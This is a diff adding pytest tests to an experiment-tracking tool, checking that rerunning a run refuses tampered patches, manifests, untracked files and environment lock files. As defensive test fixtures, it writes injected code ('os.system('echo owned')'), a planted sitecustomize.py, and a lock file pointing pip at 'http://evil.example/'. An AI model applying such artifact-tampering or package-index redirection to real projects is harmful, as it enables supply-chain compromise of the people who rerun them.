@@ -493,3 +493,98 @@ def test_the_summary_says_what_was_compared() -> None:
     )
     no_model = Comparison((), (("predictions", "no input example"),), 1, params_compared=3)
     assert no_model.summary() == "3 params and 1 metric"
+
+
+# -- what is read from the run is what it recorded ---------------------------------------------
+
+
+def _artifacts(client: autolog.Client, run_id: str) -> Path:
+    return Path(client.get_run(run_id).info.artifact_uri.removeprefix("file://"))
+
+
+@needs_git
+@pytest.mark.parametrize("changed", ["code/diff.patch", "code/untracked/src/helper.py"])
+def test_a_changed_patch_or_untracked_file_is_refused_naming_it(
+    tmp_path: Path, changed: str
+) -> None:
+    repo = _repository(tmp_path / "repo")
+    _dirty(repo)
+    with autolog.Client(f"sqlite:///{tmp_path}/runs.db") as client:
+        run_id = _recorded(client, repo)
+        record = load_code_record(client, run_id)
+        with (_artifacts(client, run_id) / changed).open("ab") as stream:
+            stream.write(b"import os; os.system('echo owned')\n")
+        with pytest.raises(RerunError) as caught:
+            build_workspace(client, run_id, record, tmp_path / "ws", start=repo)
+    assert str(caught.value) == (
+        f"{changed} does not match the SHA-256 recorded with run {run_id}: it was changed since"
+    )
+
+
+@needs_git
+def test_a_changed_manifest_is_refused(tmp_path: Path) -> None:
+    repo = _repository(tmp_path / "repo")
+    with autolog.Client(f"sqlite:///{tmp_path}/runs.db") as client:
+        run_id = _recorded(client, repo)
+        manifest = _artifacts(client, run_id) / "code" / "manifest.json"
+        manifest.write_text(manifest.read_text().replace("train.py", "other.py"))
+        with pytest.raises(RerunError, match=r"code/manifest\.json does not match the SHA-256"):
+            load_code_record(client, run_id)
+
+
+@needs_git
+def test_only_the_untracked_files_the_manifest_lists_are_copied(tmp_path: Path) -> None:
+    repo = _repository(tmp_path / "repo")
+    _dirty(repo)
+    with autolog.Client(f"sqlite:///{tmp_path}/runs.db") as client:
+        run_id = _recorded(client, repo)
+        untracked = _artifacts(client, run_id) / "code" / "untracked"
+        (untracked / "src" / "extra.py").write_text("print('slipped in')\n")
+        (untracked / "sitecustomize.py").write_text("print('slipped in')\n")
+        record = load_code_record(client, run_id)
+        ws = build_workspace(client, run_id, record, tmp_path / "ws", start=repo)
+    assert record.untracked == ("src/helper.py",)
+    assert (ws.root / "src" / "helper.py").read_text() == "VALUE = 1\n"
+    assert not (ws.root / "src" / "extra.py").exists()
+    assert not (ws.root / "sitecustomize.py").exists()
+
+
+@needs_git
+@pytest.mark.parametrize(
+    ("how", "message"),
+    [
+        ("changed", "does not match the SHA-256 recorded with run {}: it was changed since"),
+        ("unrecorded", "has no SHA-256 recorded with run {}"),
+    ],
+)
+def test_a_lock_changed_or_never_recorded_is_not_installed(
+    tmp_path: Path, how: str, message: str
+) -> None:
+    from click.testing import CliRunner
+
+    from autolog.cli.rerun import command
+    from autolog.projects.environment import LOCK_ARTIFACT
+
+    repo = _repository(tmp_path / "repo")
+    lock = tmp_path / "requirements.lock"
+    lock.write_text("# autolog environment lock\nnumpy==1.26.4\n")
+    uri = f"sqlite:///{tmp_path}/runs.db"
+    with autolog.Client(uri) as client:
+        run_id = client.create_run().info.run_id
+        snapshot = capture_code(repo / "src", ["train.py"])
+        assert snapshot is not None
+        record_code(client, run_id, snapshot)
+        if how == "changed":
+            client.log_artifact(run_id, lock, "environment")
+        client.set_terminated(run_id)
+        assert client.flush(30)
+        folder = _artifacts(client, run_id)
+        if how == "changed":
+            (folder / LOCK_ARTIFACT).write_text("--index-url http://evil.example/\nnumpy\n")
+        else:  # put beside the run's artifacts, never logged
+            (folder / "environment").mkdir()
+            shutil.copyfile(lock, folder / LOCK_ARTIFACT)
+    result = CliRunner().invoke(command, [run_id, "--tracking-uri", uri])
+    assert isinstance(result.exception, RerunError), result.output
+    assert str(result.exception).startswith(LOCK_ARTIFACT)
+    assert message.format(run_id) in str(result.exception)
